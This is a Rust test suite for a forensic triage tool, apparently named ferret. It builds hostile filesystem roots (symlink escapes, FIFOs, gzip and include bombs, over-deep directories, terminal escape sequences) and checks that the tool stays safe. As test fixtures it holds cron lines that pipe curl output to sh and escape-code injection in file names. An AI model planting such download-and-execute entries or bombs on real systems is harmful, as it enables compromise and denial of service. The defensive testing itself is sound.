//! Hostile roots (#22): a host built to stop, blind or crash the responder. Each case builds a
//! root in a temp dir (a small Debian system from `common::clean_root`, then the hostile part)
//! and runs the `triage` example on it, as root and, where it matters, as `nobody`, under a
//! wall-time and an address-space limit. Every case must: finish within its limit, exit 0, 1
//! or 2 (2: errors or an incomplete run; never a panic's 101 or a signal), print one JSON document that validates against
//! `docs/report.schema.json`, print no raw ESC in text mode (stdout or stderr), never show the
//! canary planted outside the root (so nothing outside was read), and change no timestamp
//! inside the root (root runs; an unprivileged run must say how many files it read without
//! `O_NOATIME`). The deep directory chain is also scanned with the baseline library entry point.
//!
//! The example binary is the one `cargo test` builds (`target/<profile>/examples/triage`).
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::format_push_string
)]

mod common;

use nix::sys::stat::{utimensat, UtimensatFlags};
use nix::sys::time::TimeSpec;
use serde_json::Value;
use std::collections::BTreeMap;
use std::io::Write as _;
use std::os::unix::fs::{symlink, MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// Wall-time limit of one run (the triage budget is set below it, so a run that hits its
/// budget still ends in time; the limit is generous for unoptimised builds on a loaded machine).
const WALL: Duration = Duration::from_secs(40);
/// The `--budget` given to triage.
const BUDGET_SECS: &str = "10";
/// Address-space limit of one run.
const MAX_AS: u64 = 4 << 30;
const PAST: i64 = 946_684_800; // 2000-01-01

fn triage_bin() -> PathBuf {
    let exe = std::env::current_exe().unwrap();
    let profile = exe.parent().and_then(Path::parent).unwrap();
    let bin = profile.join("examples/triage");
    assert!(
        bin.exists(),
        "{}: missing; `cargo test` builds the examples (or run `cargo build --examples`)",
        bin.display()
    );
    bin
}

/// A hostile case: its root and the canary outside it.
struct Case {
    _dir: tempfile::TempDir,
    root: PathBuf,
    canary: String,
}

impl Case {
    fn new() -> Case {
        let dir = tempfile::tempdir().unwrap();
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        let root = dir.path().join("root");
        std::fs::create_dir(&root).unwrap();
        common::clean_root(&root);
        let canary = format!("FERRET-CANARY-{}-{}", std::process::id(), rand_u64());
        // Outside the root: a file every link below points at, in every form ferret reads.
        let line = format!(
            "{canary}:x:0:0:{canary}:/root:/bin/sh\nMar  3 10:00:00 h sshd[1]: Failed password for {canary} from 198.51.100.1 port 1 ssh2\nPermitRootLogin {canary}\n* * * * * root curl {canary} | sh\n"
        );
        std::fs::write(dir.path().join("canary"), line).unwrap();
        Case {
            _dir: dir,
            root,
            canary,
        }
    }

    fn p(&self, rel: &str) -> PathBuf {
        self.root.join(rel.trim_start_matches('/'))
    }

    /// Replaces `rel` (file or nothing) with whatever `make` creates there.
    fn replace(&self, rel: &str, make: impl FnOnce(&Path)) {
        let p = self.p(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        let _ = std::fs::remove_file(&p);
        make(&p);
    }

    fn write(&self, rel: &str, content: impl AsRef<[u8]>) {
        self.replace(rel, |p| std::fs::write(p, content).unwrap());
    }
}

fn rand_u64() -> u64 {
    let mut b = [0u8; 8];
    std::fs::File::open("/dev/urandom")
        .and_then(|mut f| std::io::Read::read_exact(&mut f, &mut b))
        .unwrap();
    u64::from_le_bytes(b)
}

/// The files ferret reads in a root (configs, logs, accounts).
const READ_FILES: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "etc/group",
    "etc/gshadow",
    "etc/login.defs",
    "etc/ssh/sshd_config",
    "etc/sysctl.conf",
    "etc/crontab",
    "etc/ld.so.preload",
    "etc/rc.local",
    "etc/profile",
    "etc/os-release",
    "var/log/auth.log",
    "var/log/syslog",
    "root/.ssh/authorized_keys",
];

/// Every path under `root` whose lstat works, to depth 64 (the deep chain below that is out
/// of reach of path-based calls and of the snapshot).
fn all_paths(root: &Path) -> Vec<PathBuf> {
    let mut out = vec![(root.to_path_buf(), 0)];
    let mut i = 0;
    while let Some((p, depth)) = out.get(i).cloned() {
        i += 1;
        let Ok(md) = std::fs::symlink_metadata(&p) else {
            continue;
        };
        if md.is_dir() && depth < 64 {
            let Ok(rd) = std::fs::read_dir(&p) else {
                continue;
            };
            for e in rd.flatten() {
                out.push((e.path(), depth + 1));
            }
        }
    }
    out.into_iter().map(|x| x.0).collect()
}

fn reset_atimes(paths: &[PathBuf]) {
    for p in paths {
        let _ = utimensat(
            nix::fcntl::AT_FDCWD,
            p,
            &TimeSpec::new(PAST, 0),
            &TimeSpec::UTIME_OMIT,
            UtimensatFlags::NoFollowSymlink,
        );
    }
}

type Snap = BTreeMap<PathBuf, (i64, i64, i64, i64, i64, i64, u64, u32)>;

fn snapshot(paths: &[PathBuf]) -> Snap {
    paths
        .iter()
        .filter_map(|p| {
            let m = std::fs::symlink_metadata(p).ok()?;
            Some((
                p.clone(),
                (
                    m.atime(),
                    m.atime_nsec(),
                    m.mtime(),
                    m.mtime_nsec(),
                    m.ctime(),
                    m.ctime_nsec(),
                    m.size(),
                    m.mode(),
                ),
            ))
        })
        .collect()
}

/// Changed timestamps; a symlink's own atime is the documented exception (docs/soundness.md).
fn diff(a: &Snap, b: &Snap) -> Vec<String> {
    let mut d = Vec::new();
    for (p, x) in a {
        match b.get(p) {
            Some(y) if x == y => {}
            Some(y)
                if x.7 & 0o170_000 == 0o120_000
                    && (x.2, x.3, x.4, x.5, x.6, x.7) == (y.2, y.3, y.4, y.5, y.6, y.7) => {}
            Some(y) => d.push(format!("{}: {x:?} -> {y:?}", p.display())),
            None => d.push(format!("{}: vanished", p.display())),
        }
    }
    d
}

struct Run {
    code: Option<i32>,
    stdout: Vec<u8>,
    stderr: Vec<u8>,
    took: Duration,
}

/// Runs triage on the case's root, under `prlimit --as`, as `nobody` when `unprivileged`,
/// killed past [`WALL`].
fn run(case: &Case, json: bool, unprivileged: bool) -> Run {
    let mut cmd = Command::new("prlimit");
    cmd.arg(format!("--as={MAX_AS}")).arg("--");
    if unprivileged {
        cmd.args([
            "setpriv",
            "--reuid=nobody",
            "--regid=nogroup",
            "--clear-groups",
            "--",
        ]);
    }
    cmd.arg(triage_bin())
        .arg("--root")
        .arg(&case.root)
        .args(["--budget", BUDGET_SECS, "--quiet"]);
    if json {
        cmd.arg("--json");
    }
    let out_dir = tempfile::tempdir().unwrap();
    let (o, e) = (out_dir.path().join("o"), out_dir.path().join("e"));
    cmd.stdin(Stdio::null())
        .stdout(std::fs::File::create(&o).unwrap())
        .stderr(std::fs::File::create(&e).unwrap());
    let t = Instant::now();
    let mut child = cmd.spawn().unwrap();
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break Some(s);
        }
        if t.elapsed() > WALL {
            let _ = child.kill();
            let _ = child.wait();
            break None;
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let took = t.elapsed();
    assert!(status.is_some(), "still running after {WALL:?}: killed");
    Run {
        code: status.and_then(|s| s.code()),
        stdout: std::fs::read(o).unwrap(),
        stderr: std::fs::read(e).unwrap(),
        took,
    }
}

fn schema() -> jsonschema::Validator {
    let s: Value = serde_json::from_str(
        &std::fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/docs/report.schema.json"
        ))
        .unwrap(),
    )
    .unwrap();
    jsonschema::validator_for(&s).unwrap()
}

/// Runs every check of the issue on `case` (named `name`); returns the JSON report.
fn check(name: &str, case: &Case, unprivileged: bool) -> Value {
    check_modes(name, case, unprivileged, &[true, false])
}

/// [`check`] in the given modes (`true`: JSON; the JSON run is required).
fn check_modes(name: &str, case: &Case, unprivileged: bool, modes: &[bool]) -> Value {
    let paths = all_paths(&case.root);
    reset_atimes(&paths);
    let before = snapshot(&paths);
    let who = if unprivileged { "nobody" } else { "root" };
    let mut report = Value::Null;
    for &json in modes {
        let r = run(case, json, unprivileged);
        let what = format!("{name} ({who}, {})", if json { "json" } else { "text" });
        let stderr = String::from_utf8_lossy(&r.stderr);
        assert!(
            matches!(r.code, Some(0..=2)),
            "{what}: exit {:?} after {:?}\n{stderr}",
            r.code,
            r.took
        );
        assert!(r.took < WALL, "{what}: took {:?}", r.took);
        for (stream, bytes) in [("stdout", &r.stdout), ("stderr", &r.stderr)] {
            assert!(
                !bytes.contains(&0x1b),
                "{what}: raw ESC on {stream}:\n{}",
                String::from_utf8_lossy(bytes)
            );
            assert!(
                !String::from_utf8_lossy(bytes).contains(&case.canary),
                "{what}: the canary outside the root reached {stream}"
            );
        }
        if json {
            let v: Value = serde_json::from_slice(&r.stdout)
                .unwrap_or_else(|e| panic!("{what}: stdout is not JSON: {e}\n{stderr}"));
            let errors: Vec<String> = schema()
                .iter_errors(&v)
                .map(|e| format!("{e} at {}", e.instance_path()))
                .collect();
            assert!(errors.is_empty(), "{what}: schema: {errors:#?}");
            report = v;
        } else {
            assert!(!r.stdout.is_empty(), "{what}: no text report");
        }
    }
    let after = snapshot(&paths);
    let d = diff(&before, &after);
    let exposed = report["acquisition"]["files_without_noatime"]
        .as_u64()
        .unwrap()
        + report["acquisition"]["dirs_without_noatime"]
            .as_u64()
            .unwrap();
    if unprivileged {
        // The kernel's rule: nobody cannot ask O_NOATIME for root's files. The report says so.
        assert!(exposed > 0, "{name} (nobody): no atime exposure reported");
    } else {
        assert!(
            d.is_empty(),
            "{name}: timestamps changed:\n{}",
            d.join("\n")
        );
        assert_eq!(
            exposed, 0,
            "{name} (root): O_NOATIME always granted to root"
        );
    }
    report
}

fn ids(report: &Value) -> Vec<String> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["id"].as_str().unwrap().to_owned())
        .collect()
}

fn error_text(report: &Value) -> String {
    serde_json::to_string(&report["errors"]).unwrap()
}

#[test]
fn a_clean_root_is_the_control() {
    let c = Case::new();
    let r = check("clean", &c, false);
    assert_eq!(r["acquisition"]["time_budget_ms"], 10_000);
    assert_eq!(r["acquisition"]["cut_short"], false);
}

#[test]
fn fifos_and_device_nodes_where_configs_and_logs_are() {
    let c = Case::new();
    for (i, f) in READ_FILES.iter().enumerate() {
        c.replace(f, |p| {
            if i % 2 == 0 {
                nix::unistd::mkfifo(p, nix::sys::stat::Mode::from_bits_truncate(0o644)).unwrap();
            } else {
                // /dev/zero's numbers (1, 5): a read that never ends.
                nix::sys::stat::mknod(
                    p,
                    nix::sys::stat::SFlag::S_IFCHR,
                    nix::sys::stat::Mode::from_bits_truncate(0o644),
                    nix::sys::stat::makedev(1, 5),
                )
                .unwrap();
            }
        });
    }
    let r = check("fifos and devices", &c, false);
    let errs = error_text(&r);
    assert!(errs.contains("/etc/passwd"), "{errs}");
    // A FIFO /etc/group is an error about it, not a removal of every group.
    assert!(
        !ids(&r).iter().any(|i| i == "accounts.diff.group-removed"),
        "{:?}",
        ids(&r)
    );
}

#[test]
fn links_out_of_the_root_loops_and_to_kernel_files() {
    let c = Case::new();
    let canary_abs = c.root.parent().unwrap().join("canary");
    let targets: Vec<PathBuf> = vec![
        "/dev/zero".into(),
        "/proc/self/mem".into(),
        canary_abs.clone(),
        "../../canary".into(),
        "../../../canary".into(),
    ];
    for (i, f) in READ_FILES.iter().enumerate() {
        let t = targets[i % targets.len()].clone();
        c.replace(f, |p| symlink(&t, p).unwrap());
    }
    // Loops: a self link, a two-link cycle, a directory that is a link to its parent.
    c.replace("etc/cron.d/self", |p| symlink("self", p).unwrap());
    c.replace("etc/cron.d/a", |p| symlink("b", p).unwrap());
    c.replace("etc/cron.d/b", |p| symlink("a", p).unwrap());
    let _ = std::fs::remove_dir_all(c.p("etc/ssh/sshd_config.d"));
    c.replace("etc/ssh/sshd_config.d", |p| symlink(".", p).unwrap());
    c.replace("var/log/journal", |p| symlink(&canary_abs, p).unwrap());
    check("links", &c, false);
}

#[test]
fn huge_sparse_passwd_and_a_one_gigabyte_log_line() {
    let c = Case::new();
    c.replace("etc/passwd", |p| {
        std::fs::File::create(p).unwrap().set_len(2 << 30).unwrap();
    });
    c.replace("var/log/auth.log", |p| {
        let mut f = std::fs::File::create(p).unwrap();
        f.write_all(b"Mar  3 10:00:00 h sshd[1]: ").unwrap();
        f.set_len(1 << 30).unwrap(); // then a gigabyte of NULs, no newline
    });
    // JSON only: reading the gigabyte twice would double the suite's cost.
    let r = check_modes("sparse", &c, false, &[true]);
    assert!(error_text(&r).contains("/etc/passwd"), "{}", error_text(&r));
}

#[test]
fn include_and_glob_bombs() {
    let c = Case::new();
    let mut cfg = b"Include /etc/ssh/sshd_config\n".repeat(3);
    cfg.extend(b"Include /etc/ssh/sshd_config.d/*.conf\n".repeat(1000));
    cfg.extend_from_slice(b"PermitRootLogin yes\n");
    c.write("etc/ssh/sshd_config", &cfg);
    for i in 0..5_000 {
        c.write(
            &format!("etc/ssh/sshd_config.d/{i:05}.conf"),
            "Include /etc/ssh/sshd_config.d/*.conf\nX11Forwarding yes\n",
        );
    }
    let r = check("include bombs", &c, false);
    let found = ids(&r);
    assert!(
        found.iter().any(|i| i == "sshd.include-amplification"),
        "{found:?}"
    );
}

#[test]
fn a_gzip_bomb_among_the_rotations() {
    let c = Case::new();
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    e.write_all(&vec![0u8; 1 << 20]).unwrap();
    c.write("var/log/auth.log.2.gz", e.finish().unwrap().repeat(10_240));
    let mut log = String::new();
    for i in 0..8 {
        log.push_str(&format!(
            "Mar  3 10:0{i}:00 h sshd[1{i}]: Failed password for root from 203.0.113.9 port 1{i} ssh2\n"
        ));
    }
    log.push_str(
        "Mar  3 10:09:00 h sshd[20]: Accepted password for root from 203.0.113.9 port 2 ssh2\n",
    );
    c.write("var/log/auth.log", log);
    let r = check("gzip bomb", &c, false);
    let found = ids(&r);
    for want in [
        "logs.decompression-bomb",
        "logs.brute-force",
        "logs.login-after-failures",
    ] {
        assert!(found.iter().any(|i| i == want), "{want}: {found:?}");
    }
}

#[test]
fn random_bytes_in_every_file_ferret_reads() {
    let c = Case::new();
    for f in READ_FILES {
        let mut b = vec![0u8; 64 << 10];
        std::fs::File::open("/dev/urandom")
            .and_then(|mut u| std::io::Read::read_exact(&mut u, &mut b))
            .unwrap();
        c.write(f, b);
    }
    check("urandom", &c, false);
}

#[test]
fn terminal_escapes_in_names_and_lines() {
    let c = Case::new();
    let esc = "\x1b]0;owned\x07\x1b[2J";
    let mut passwd = std::fs::read_to_string(c.p("etc/passwd")).unwrap();
    passwd.push_str(&format!("ev{esc}il:x:0:0:{esc}:/root{esc}:/bin/sh{esc}\n"));
    c.write("etc/passwd", passwd);
    c.write(
        "etc/ssh/sshd_config",
        format!("PermitRootLogin {esc}\nPort 22{esc}\nAllowUsers {esc}\n"),
    );
    c.write(
        &format!("etc/cron.d/job{esc}"),
        format!("* * * * * root curl http://x/{esc} | sh\n"),
    );
    c.write(
        "var/log/auth.log",
        format!("Mar  3 10:00:00 h sshd[1]: Accepted password for {esc} from 203.0.113.5 port 1 ssh2\nMar  3 10:00:01 h {esc}[2]: {esc}\n"),
    );
    c.write(
        &format!("etc/sysctl.d/{esc}.conf"),
        format!("kernel.{esc} = {esc}\n"),
    );
    let r = check("escapes", &c, false);
    assert!(
        ids(&r)
            .iter()
            .any(|i| i == "persistence.cron-download-exec"),
        "{:?}",
        ids(&r)
    );
}

#[test]
fn mode_000_files_and_directories_as_root_and_as_nobody() {
    let c = Case::new();
    for f in [
        "etc/shadow",
        "etc/gshadow",
        "etc/crontab",
        "var/log/auth.log",
    ] {
        common::chmod(&c.root, f, 0o000);
    }
    for d in ["etc/ssh", "etc/cron.d", "root"] {
        let _ = std::fs::create_dir_all(c.p(d));
        common::chmod(&c.root, d, 0o000);
    }
    check("mode 000", &c, false);
    let r = check("mode 000", &c, true);
    // Unreadable to nobody: an error about the file, never an empty shadow.
    let found = ids(&r);
    assert!(
        !found.iter().any(|i| i == "accounts.no-shadow-file"),
        "{found:?}"
    );
    assert!(error_text(&r).contains("/etc/shadow"), "{}", error_text(&r));
}

#[test]
fn a_directory_chain_deeper_than_path_max() {
    use nix::fcntl::{open, OFlag};
    use nix::sys::stat::{mkdirat, Mode};
    let c = Case::new();
    for base in ["etc/deep", "var/log/journal"] {
        std::fs::create_dir_all(c.p(base)).unwrap();
        let mut fd = open(
            &c.p(base),
            OFlag::O_DIRECTORY | OFlag::O_RDONLY,
            Mode::empty(),
        )
        .unwrap();
        for _ in 0..5_000 {
            mkdirat(&fd, "d", Mode::from_bits_truncate(0o755)).unwrap();
            fd = nix::fcntl::openat(
                &fd,
                "d",
                OFlag::O_DIRECTORY | OFlag::O_RDONLY,
                Mode::empty(),
            )
            .unwrap();
        }
        // 5,000 levels of "d/" are 10,000 bytes: past PATH_MAX (4,096).
        nix::unistd::write(
            nix::fcntl::openat(
                &fd,
                "system.journal",
                OFlag::O_CREAT | OFlag::O_WRONLY,
                Mode::from_bits_truncate(0o644),
            )
            .unwrap(),
            b"LPKSHHRH",
        )
        .unwrap();
    }
    check("deep chain", &c, false);
    // The library's whole-tree walk (baseline scan) over the same root.
    let hr = ferret::core::HostRoot::new(&c.root).unwrap();
    let mut scan = ferret::baseline::ScanOptions::default();
    scan.paths.push("/".into());
    let t = Instant::now();
    let b = ferret::baseline::scan_root(
        &hr,
        &scan,
        &ferret::core::Control::new().with_time_budget(Duration::from_secs(30)),
    );
    assert!(t.elapsed() < WALL, "scan took {:?}", t.elapsed());
    assert!(b.entries.len() > 100, "the scan saw the tree");
}
